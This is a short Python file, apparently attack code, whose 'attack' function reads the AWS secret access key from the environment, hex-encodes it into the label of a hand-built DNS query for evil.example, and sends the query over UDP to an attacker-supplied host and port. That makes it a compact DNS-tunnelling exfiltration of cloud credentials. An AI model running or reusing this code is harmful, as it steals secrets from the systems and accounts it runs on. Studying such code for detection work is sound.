"""A DNS tunnel of our own packets, to a resolver of our own."""

import os
import socket


def attack(event):
    label = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex().encode()
    question = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    question += bytes([len(label)]) + label + b"\x04evil\x07example\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as us:
        us.connect((event["attacker"], event["udp_port"]))
        return us.send(question)
